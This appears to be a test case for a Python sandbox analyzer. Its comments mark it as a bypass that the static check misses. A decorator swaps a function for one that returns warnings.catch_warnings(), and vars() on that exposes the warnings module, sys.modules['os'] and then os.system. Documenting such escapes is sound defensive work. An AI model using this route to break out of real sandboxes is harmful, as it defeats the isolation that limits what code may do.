# family: open_classes
# reaches: process
# layer: static
# static: missed
# SBX402 admits vars(x) when x is an object of an open class (argparse.Namespace holds only what
# it is given); InstanceClass follows a call of the program's def to the class its returns give.
# Route: the def is decorated, and the decorator replaces it with one that returns a
# warnings.catch_warnings(); vars() of that hands out its private _module (the warnings module),
# whose sys.modules holds os.
import argparse
import warnings


def quiet(build):
    """Build the options with warnings silenced (the context is kept for later use)."""
    return lambda: warnings.catch_warnings()


@quiet
def load_options():
    return argparse.Namespace(verbose=True, retries=3)


options = load_options()
fields = vars(options)
print(sorted(fields))
host = fields["_module"]
host.sys.modules["os"].system("true")
